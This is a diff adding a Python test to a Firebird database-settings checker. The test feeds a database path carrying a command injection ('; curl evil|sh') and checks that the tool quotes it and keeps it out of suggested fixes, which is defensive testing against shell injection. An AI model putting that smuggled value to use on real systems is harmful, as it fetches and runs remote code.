@@ -69,6 +69,16 @@ def test_each_database_is_its_own(
     assert (facts["verdict"] == "at_risk") == at_risk
 
 
+def test_a_name_that_looks_like_advice_is_in_quotes_and_a_word_of_the_command() -> None:
+    hostile = "/srv/fb/a; curl evil|sh #.fdb"
+    result = found(database(path=hostile, running="off", persisted="off", in_use="yes"))
+    said = [each for each in result["reasons"] if hostile in each["targets"]]
+    assert {each["id"] for each in said} == {"risk.engine_setting", "setting.firebird.forced_writes"}
+    for each in said:
+        assert f'"{hostile}"' in each["reason"]
+        assert "curl" not in each["fix"].replace(f"'localhost:{hostile}'", "").replace(f"'{hostile}'", "")
+
+
 def test_a_read_only_database_puts_nothing_at_risk() -> None:
     facts = found(database(forced_writes="off", mode="read_only"))
     assert not any("can vanish" in why for why in facts["why"])
